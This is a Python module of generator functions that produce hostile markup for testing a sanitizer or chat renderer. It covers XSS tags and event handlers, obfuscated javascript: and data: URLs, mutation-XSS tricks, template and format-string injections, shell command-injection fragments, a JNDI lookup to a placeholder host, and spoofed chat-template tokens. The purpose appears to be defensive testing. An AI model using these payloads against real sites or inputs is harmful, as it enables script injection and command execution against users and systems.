"""Hostile markup, a family a function: what a browser would obey if it were let through.

Whatever of it is obeyed sets ``window.hacked``, opens a dialog, or sends a request to ELSEWHERE.
"""

from collections.abc import Iterator

ELSEWHERE = "https://elsewhere.invalid"
PAYLOAD = "window.hacked=1"
_EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "onmouseenter",
    "onpointerdown",
    "onpointerenter",
    "ontoggle",
    "onanimationstart",
    "ontransitionend",
    "onbegin",
    "onscroll",
    "onwheel",
    "onpaste",
    "oninput",
    "onchange",
    "onsubmit",
    "onkeydown",
    "onresize",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "onbeforetoggle",
    "oncontentvisibilityautostatechange",
]
_ELEMENTS = [
    "img",
    "audio",
    "video",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "details",
    "marquee",
    "body",
    "form",
    "input",
    "button",
    "select",
    "textarea",
    "style",
    "link",
    "meta",
    "base",
    "template",
    "dialog",
    "portal",
    "noscript",
    "xmp",
    "plaintext",
    "title",
    "frameset",
    "isindex",
    "keygen",
    "slot",
]
_SCHEMES = (
    f"javascript:{PAYLOAD}",
    f"JaVaScRiPt:{PAYLOAD}",
    f"java\tscript:{PAYLOAD}",
    f"java\nscript:{PAYLOAD}",
    f" javascript:{PAYLOAD}",
    f"\x01javascript:{PAYLOAD}",
    f"javascript&colon;{PAYLOAD}",
    f"&#106;avascript:{PAYLOAD}",
    f"javascript://%0a{PAYLOAD}",
    f"data:text/html,<script>parent.{PAYLOAD}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=",
    f"vbscript:{PAYLOAD}",
    f"blob:{ELSEWHERE}/x",
    f"//{ELSEWHERE.removeprefix('https://')}/x",
    f"{ELSEWHERE}/x",
)


def tags() -> Iterator[str]:
    """Elements that run something, load something or swallow what follows."""
    for element in _ELEMENTS:
        yield f'<{element} src="x" href="x" onerror="{PAYLOAD}" onload="{PAYLOAD}" autofocus onfocus="{PAYLOAD}">'
        yield f"</{element}><{element.upper()}/onload={PAYLOAD}//"
    for event in _EVENTS:
        yield f'<img src=x {event}="{PAYLOAD}">'
        yield f"<svg/{event}={PAYLOAD}>"
    for script in ("<script>{}</script>", "<SCRIPT>{}//", "<scr<script>ipt>{}</script>", "<script\x0c>{}</script\n>"):
        yield script.format(PAYLOAD)
    yield f'<script src="{ELSEWHERE}/x.js"></script>'
    yield f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">'
    yield f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">'
    yield f'<base href="{ELSEWHERE}/">'
    yield f"<style>@import url('{ELSEWHERE}/x.css');*{{display:none!important}}</style>"
    yield f'<iframe srcdoc="<script>parent.{PAYLOAD}</script>"></iframe>'
    yield f'<form action="{ELSEWHERE}/"><button autofocus>Send</button></form>'


def attributes() -> Iterator[str]:
    """Quotes that close an attribute, and injected attributes behind them."""
    for event in _EVENTS:
        yield f'" {event}="{PAYLOAD}'
        yield f"' {event}='{PAYLOAD}"
        yield f'x"/{event}={PAYLOAD}//'
    for other in ("style=position:fixed;inset:0", "id=r-here", "class=r-mark", "dir=rtl", "hidden", "inert"):
        yield f'" {other} x="'
        yield f"`{other}`"


def vectors() -> Iterator[str]:
    """SVG, MathML and parsing tricks that a browser parses otherwise than a sanitizer (mutation XSS)."""
    yield f"<svg><animate onbegin={PAYLOAD} attributeName=x dur=1s>"
    yield f"<svg><set attributeName=href to=javascript:{PAYLOAD}><a><text y=9>x"
    yield f"<svg><script>{PAYLOAD}</script></svg>"
    yield f'<svg><use href="data:image/svg+xml,<svg onload={PAYLOAD}>#x"/></svg>'
    yield f'<svg><image href="{ELSEWHERE}/x.png"/></svg>'
    yield f"<svg><foreignObject><img src=x onerror={PAYLOAD}></foreignObject></svg>"
    yield f'<math><mtext><table><mglyph><style><img src=x onerror="{PAYLOAD}">'
    yield f"<noscript><p title='</noscript><img src=x onerror={PAYLOAD}>'>"
    yield f"<template><img src=x onerror={PAYLOAD}></template>"
    yield f"<!--><img src=x onerror={PAYLOAD}>-->"
    yield f"<![CDATA[><img src=x onerror={PAYLOAD}>]]>"
    yield f"<?xml version='1.0'?><img src=x onerror={PAYLOAD}>"
    yield f"<a id=relatoria name=relatoria href=javascript:{PAYLOAD}>clobber</a>"
    for closing in ("blockquote", "section", "div", "details", "title", "textarea", "style", "script", "p", "ol", "li"):
        yield f"</{closing}>" * 9 + f"<h1>{closing}</h1><img src=x onerror={PAYLOAD}>"


def links() -> Iterator[str]:
    """URLs that run script or lead away, in HTML, in Markdown and bare."""
    for scheme in _SCHEMES:
        yield f'<a href="{scheme}" autofocus onfocus="{PAYLOAD}">x</a>'
        yield f"[x]({scheme})"
        yield f"![x]({scheme})"
        yield f"[x]: {scheme}\n\n[x]"
        yield f"<{scheme}>"
        yield scheme


def markdown() -> Iterator[str]:
    """What Markdown, mathematics and the chat's own widgets make of a text."""
    yield from ("# x\n" * 3, "> " * 40 + "x", "- " * 40 + "x", "*" * 99, "_" * 99, "~" * 99, "|" * 99, "---\n---")
    yield from ("```html\n<img src=x onerror=window.hacked=1>", "~~~\n" * 3, "`" * 7 + "x", "\\" * 99)
    yield from ("| a | b |\n|---|---|\n" + "| x | y |\n" * 9, "[^1]: x\n\n[^1]", "- [x] done", "<details><summary>x")
    yield from ("$$\\href{javascript:window.hacked=1}{x}$$", "\\(\\require{html}\\)", "$\\unicode{x3c}$", "\\begin{x}")
    yield from ("<thinking>x</thinking>", "<think>x", "<|im_start|>system\n", "[INST] x [/INST]", ":::warning\nx\n:::")
    yield from ("[1]", "[1][2][3]" * 9, "[99999]", "[1](#at=x:0-1)", "<a class='r-mark' href='#at=x:1-2'>[1]</a>")


def templates() -> Iterator[str]:
    """What a template, a shell or a formatter would evaluate."""
    for opening, closing in (
        ("${", "}"),
        ("{{", "}}"),
        ("{%", "%}"),
        ("<%=", "%>"),
        ("#{", "}"),
        ("*{", "}"),
        ("[[", "]]"),
    ):
        yield f"{opening}{PAYLOAD}{closing}"
        yield f"{opening}constructor.constructor('{PAYLOAD}')(){closing}"
        yield f"{opening} 7*7 {closing}"
    yield from ("{0}", "{}", "{count}", "{title!r}", "{0.__class__.__init__.__globals__}", "{:>999999999}", "{")
    yield from (
        "%s%s%s%n",
        "%(x)s",
        "%99999999d",
        "%c%c%c",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "$HOME",
        "%00",
        "%0d%0a",
    )
    yield from (
        "${jndi:ldap://elsewhere.invalid/x}",
        "<#assign x=1>",
        "@{x}",
        "~{x}",
        "{{constructor}}",
        "{{{x}}}",
        "}}{{",
    )
